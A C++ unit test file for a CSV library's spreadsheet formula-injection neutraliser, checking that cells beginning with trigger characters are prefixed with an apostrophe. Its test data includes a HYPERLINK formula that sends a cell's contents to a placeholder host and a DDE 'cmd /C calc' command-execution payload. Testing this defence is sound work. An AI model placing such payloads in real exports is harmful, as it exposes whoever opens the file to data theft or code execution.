#include "tabular/formula.h"

#include <gtest/gtest.h>

#include "tabular/csv.h"

namespace gz::tabular {
namespace {

TEST(FormulaTest, EveryTriggerGetsAnApostrophe) {
  const std::string_view triggers[] = {"=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"};
  for (std::string_view trigger : triggers) {
    const std::string text = std::string(trigger) + "HYPERLINK(\"http://x/?\"&A1)";
    EXPECT_TRUE(NeedsNeutralising(text)) << text;
    EXPECT_EQ(NeutraliseFormula(text), "'" + text);
    EXPECT_EQ(StripNeutralisation(NeutraliseFormula(text)), text);
  }
}

TEST(FormulaTest, OrdinaryTextIsLeftAlone) {
  for (std::string_view text : {"", "张三", "420114199001011234", "a=b", " =1", "'quoted", "（备注）", "\n=1", "１＋１"}) {
    EXPECT_FALSE(NeedsNeutralising(text)) << text;
    EXPECT_EQ(NeutraliseFormula(text), text);
    EXPECT_EQ(StripNeutralisation(text), text);
  }
  // Only an apostrophe the neutraliser could have added is stripped.
  EXPECT_EQ(StripNeutralisation("'abc"), "'abc");
  EXPECT_EQ(StripNeutralisation("''=1"), "''=1");
}

TEST(FormulaTest, CsvWriterNeutralisesEveryTriggerIncludingTheHeader) {
  Table table = Table::FromStrings({"=cmd|' /C calc'!A0", "备注"}, {{"@SUM(1+1)", "-2"}, {"＋86 138", "\t=1"}});
  EXPECT_EQ(WriteCsv(table),
            "\xEF\xBB\xBF'=cmd|' /C calc'!A0,备注\r\n"
            "'@SUM(1+1),'-2\r\n"
            "'＋86 138,'\t=1\r\n");
}

}  // namespace
}  // namespace gz::tabular
